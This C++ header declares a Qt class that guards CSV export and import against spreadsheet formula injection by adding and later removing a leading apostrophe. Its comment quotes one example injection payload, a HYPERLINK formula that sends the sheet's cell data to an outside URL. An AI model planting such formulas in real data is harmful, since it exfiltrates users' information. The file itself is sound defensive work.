#pragma once

#include <QString>

namespace od {

// Excel, LibreOffice and their kind run a cell that starts with = + - @ (also after a tab or a
// carriage return) as a formula when they open a CSV file: a customer named
// =HYPERLINK("http://…?"&A1,"Click") would send the sheet's data away. On export such a cell
// gets a leading apostrophe, which spreadsheets show as text; on import exactly that apostrophe
// is taken off again, so that exporting and importing gives back the same text. Plain numbers
// ("-5", "+1.25") are no formulas and stay as they are. docs/CSV.md describes the rule.
class CsvFormulaGuard
{
public:
    // For export: the field with one apostrophe in front when a spreadsheet would run it (or
    // when it already starts with apostrophes before such a character, so that import can tell).
    static QString defused(const QString& field);
    // For import: undoes defused(), and nothing else.
    static QString restored(const QString& field);

private:
    static bool startsFormula(const QString& field, qsizetype from);
    static bool isPlainNumber(const QString& field);
};

} // namespace od
